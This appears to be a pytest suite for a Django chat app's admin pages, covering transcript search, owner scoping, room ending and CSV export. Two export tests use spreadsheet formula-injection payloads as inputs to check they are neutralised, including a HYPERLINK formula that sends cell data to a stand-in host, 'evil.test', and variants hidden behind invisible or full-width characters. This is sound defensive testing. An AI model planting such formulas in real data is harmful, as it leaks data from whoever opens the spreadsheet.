"""Django admin for rooms and messages: transcripts, filters and search, owners kept to
their sites, transcripts exported as CSV, and rooms ended from admin."""

import csv
import io

import pytest
from channels.db import database_sync_to_async
from django.test import AsyncClient

from chat.models import Message, Room
from tests.owners import admin_client, make_chat, make_staff
from tests.sockets import ask_to_chat, of_type

pytestmark = pytest.mark.django_db


@pytest.fixture
def owner(site):
    return make_staff("owner", site)


@pytest.fixture(params=["superuser", "owner"])
def manager(request, site, owner):
    return make_staff("root", superuser=True) if request.param == "superuser" else owner


def test_room_and_message_pages_load_for_superuser_and_owner(manager, site, peter):
    room = make_chat(site, peter, ("Do you ship to Norway?", "We do, in 3 days."))
    message = room.messages.first()
    client = admin_client(manager)
    today = room.created_at
    for url in [
        "/admin/chat/room/",
        f"/admin/chat/room/?status__exact=active&site__id__exact={site.pk}&operator__id__exact={peter.pk}",
        f"/admin/chat/room/?created_at__year={today.year}&created_at__month={today.month}&created_at__day={today.day}",
        "/admin/chat/room/?q=Norway",
        f"/admin/chat/room/{room.pk}/change/",
        "/admin/chat/message/",
        f"/admin/chat/message/?sender__exact=visitor&room__site__id__exact={site.pk}&at__year={today.year}",
        "/admin/chat/message/?q=Norway",
        f"/admin/chat/message/{message.pk}/change/",
    ]:
        assert client.get(url).status_code == 200, url


def test_room_page_shows_the_whole_transcript_in_order(manager, site, peter):
    bodies = tuple(f"line {n:03d}" for n in range(60))
    room = make_chat(site, peter, bodies)

    page = admin_client(manager).get(f"/admin/chat/room/{room.pk}/change/").content.decode()

    positions = [page.index(body) for body in bodies]
    assert positions == sorted(positions)
    assert 'name="_save"' not in page  # a record, not a form


def test_rooms_are_found_by_message_text(manager, site, peter):
    norway = make_chat(site, peter, ("Do you ship to Norway?",))
    make_chat(site, peter, ("Is the rain jacket waterproof?",))

    page = admin_client(manager).get("/admin/chat/room/?q=norway").content.decode()

    assert f"/admin/chat/room/{norway.pk}/change/" in page
    assert "1 room" in page


def test_messages_are_searchable_and_read_only(manager, site, peter):
    room = make_chat(site, peter, ("Do you ship to Norway?", "We do."))
    client = admin_client(manager)

    found = client.get("/admin/chat/message/?q=norway").content.decode()
    message = room.messages.first()
    client.post(f"/admin/chat/message/{message.pk}/change/", {"body": "rewritten"})

    assert "Do you ship to Norway?" in found
    assert "We do." not in found
    assert client.get("/admin/chat/message/add/").status_code == 403
    message.refresh_from_db()
    assert message.body == "Do you ship to Norway?"


def test_owner_sees_only_rooms_and_messages_of_their_sites(site, other_site, owner, peter, olga):
    mine = make_chat(site, peter, ("about shoes",))
    theirs = make_chat(other_site, olga, ("a secret of the other shop",))
    client = admin_client(owner)

    rooms = client.get("/admin/chat/room/").content.decode()
    messages = client.get("/admin/chat/message/").content.decode()

    assert f"/admin/chat/room/{mine.pk}/change/" in rooms
    assert f"/admin/chat/room/{theirs.pk}/change/" not in rooms
    assert "secret of the other shop" not in messages
    assert client.get(f"/admin/chat/room/{theirs.pk}/change/").status_code == 302
    other_message = theirs.messages.get()
    assert client.get(f"/admin/chat/message/{other_message.pk}/change/").status_code == 302
    # Actions act only on what the owner sees, whatever ids are posted.
    client.post("/admin/chat/room/", {"action": "end_rooms", "_selected_action": [theirs.pk]})
    theirs.refresh_from_db()
    assert theirs.status == Room.Status.ACTIVE


# CSV export ------------------------------------------------------------------------


async def export(user, room_ids: list[int]) -> list[dict]:
    client = AsyncClient()
    await client.aforce_login(user)
    response = await client.post(
        "/admin/chat/room/", {"action": "export_transcripts", "_selected_action": [str(i) for i in room_ids]}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    content = b"".join([chunk async for chunk in response.streaming_content]).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content)))


@pytest.mark.django_db(transaction=True)
async def test_csv_export_has_one_row_per_message_of_the_chosen_rooms(site, peter):
    root = await database_sync_to_async(make_staff)("root", superuser=True)
    bodies = ("Hi, size 42?", "Yes, in blue.", 'Great, "thanks"\nbye')
    first = await database_sync_to_async(make_chat)(site, peter, bodies)
    second = await database_sync_to_async(make_chat)(site, None, ("Anyone there?",), status=Room.Status.PENDING)
    left_out = await database_sync_to_async(make_chat)(site, peter, ("not exported",))

    rows = await export(root, [first.pk, second.pk])

    assert [(row["room"], row["sender"], row["name"], row["body"]) for row in rows] == [
        (str(first.pk), "visitor", f"Visitor {first.visitor_id}", "Hi, size 42?"),
        (str(first.pk), "operator", "Peter", "Yes, in blue."),
        (str(first.pk), "visitor", f"Visitor {first.visitor_id}", 'Great, "thanks"\nbye'),
        (str(second.pk), "visitor", f"Visitor {second.visitor_id}", "Anyone there?"),
    ]
    assert rows[0] | {"body": "", "at": ""} == {
        "room": str(first.pk),
        "site": "shop",
        "visitor": str(first.visitor_id),
        "operator": "Peter",
        "status": "active",
        "reason": "",
        "sender": "visitor",
        "name": f"Visitor {first.visitor_id}",
        "body": "",
        "at": "",
        "event": "",
        "file": "",
    }
    assert rows[3]["operator"] == ""
    assert all(row["room"] != str(left_out.pk) for row in rows)


@pytest.mark.django_db(transaction=True)
async def test_csv_export_neutralises_spreadsheet_formulas(site, peter):
    root = await database_sync_to_async(make_staff)("root", superuser=True)
    attack = '=HYPERLINK("http://evil.test/?x="&A1,"Click for a discount")'
    room = await database_sync_to_async(make_chat)(site, peter, (attack, "+1 555 0100", "-2", "@SUM(A1)", "fine"))

    rows = await export(root, [room.pk])

    assert [row["body"] for row in rows] == ["'" + attack, "'+1 555 0100", "'-2", "'@SUM(A1)", "fine"]


@pytest.mark.django_db(transaction=True)
async def test_csv_export_neutralises_formulas_behind_white_space_full_width_or_invisible_characters(site, peter):
    """Issue 21: spreadsheets that skip leading white space or invisible characters, or fold
    full-width signs to ASCII, would still run these; each cell shows as text."""
    root = await database_sync_to_async(make_staff)("root", superuser=True)
    bodies = (
        ' =HYPERLINK("http://evil.test")',
        "\n=1+1",
        '\uff1dHYPERLINK("http://evil.test")',
        "\u200b=1+1",
        "\u202e=1+1",
        "\ufeff@SUM(A1)",
        "\u00a0+1",
        "Size 42 = fine",
    )
    room = await database_sync_to_async(make_chat)(site, peter, bodies)

    rows = await export(root, [room.pk])

    assert [row["body"] for row in rows] == [*("'" + body for body in bodies[:-1]), "Size 42 = fine"]


@pytest.mark.django_db(transaction=True)
async def test_csv_export_streams_large_transcripts_whole(site, peter):
    root = await database_sync_to_async(make_staff)("root", superuser=True)
    rooms = [await database_sync_to_async(make_chat)(site, peter, tuple(f"m{n}" for n in range(700))) for _ in range(3)]

    rows = await export(root, [room.pk for room in rooms])

    assert len(rows) == 2100  # more than one chunk of the query
    assert [row["body"] for row in rows[:2]] == ["m0", "m1"]
    assert rows[-1]["room"] == str(rooms[-1].pk)


# Ending rooms -----------------------------------------------------------------------


def end_rooms(user, room_ids: list[int]) -> int:
    response = admin_client(user).post("/admin/chat/room/", {"action": "end_rooms", "_selected_action": room_ids})
    return response.status_code


def from_now_on(client, match):
    """Matches only frames that arrive from now on, not the backlog (answers arrive twice)."""
    seen = {id(frame) for frame in client.frames}
    return lambda frame: id(frame) not in seen and match(frame)


def room_state(room_id: int) -> tuple[str, str]:
    room = Room.objects.get(pk=room_id)
    return room.status, room.reason


@pytest.mark.django_db(transaction=True)
async def test_ending_a_room_in_admin_expires_it_and_frees_the_visitor(sockets, site, peter, jane):
    owner = await database_sync_to_async(make_staff)("owner", site)
    peter_panel = await sockets.operator(peter)
    jane_panel = await sockets.operator(jane)
    linda = await sockets.visitor()
    pending = (await ask_to_chat(linda, of_type("room", room__status="pending")))["room"]
    accepted = of_type("room", room__id=pending["id"], room__status="active")
    await peter_panel.ask(accepted, type="accept", room=pending["id"])
    # Answered: nothing of hers waits, so ending the room frees her (R14 would put it back).
    await peter_panel.ask(
        of_type("ack", client_id="o-1"), type="message", room=pending["id"], body="Hi Linda!", client_id="o-1"
    )

    assert await database_sync_to_async(end_rooms)(owner, [pending["id"]]) == 302

    ended = await linda.expect(of_type("room", room__id=pending["id"], room__status="expired"))
    assert ended["room"]["reason"] == "ended_by_admin"
    await peter_panel.expect(of_type("room", room__id=pending["id"], room__status="expired"))
    assert await database_sync_to_async(room_state)(pending["id"]) == ("expired", "ended_by_admin")
    # Linda's next question is a new request in the pool.
    again = await ask_to_chat(linda, from_now_on(linda, of_type("room", room__status="pending")))
    assert again["room"]["id"] != pending["id"]
    await jane_panel.expect(of_type("room", room__id=again["room"]["id"], room__status="pending"))
    # Peter cannot write into the ended room.
    error = await peter_panel.ask("error", type="message", room=pending["id"], body="still there?")
    assert error["code"] == "expired"


@pytest.mark.django_db(transaction=True)
async def test_ending_a_pooled_request_takes_it_out_of_every_panel(sockets, site, peter, jane):
    root = await database_sync_to_async(make_staff)("root", superuser=True)
    jane_panel = await sockets.operator(jane)
    linda = await sockets.visitor()
    pending = (await ask_to_chat(linda, of_type("room", room__status="pending")))["room"]
    await jane_panel.expect(of_type("room", room__id=pending["id"], room__status="pending"))

    assert await database_sync_to_async(end_rooms)(root, [pending["id"]]) == 302

    await jane_panel.expect(of_type("room", room__id=pending["id"], room__status="expired"))
    await linda.expect(of_type("room", room__id=pending["id"], room__status="expired"))


def test_ending_rooms_leaves_expired_ones_as_they_were(manager, site, peter):
    over = make_chat(site, peter, ("bye",), status=Room.Status.EXPIRED)
    Room.objects.filter(pk=over.pk).update(reason=Room.Reason.VISITOR_LEFT)

    page = admin_client(manager).post(
        "/admin/chat/room/", {"action": "end_rooms", "_selected_action": [over.pk]}, follow=True
    )

    assert room_state(over.pk) == ("expired", "visitor_left")
    assert "Ended 0 room(s)" in page.content.decode()
    assert Message.objects.filter(room=over).count() == 1
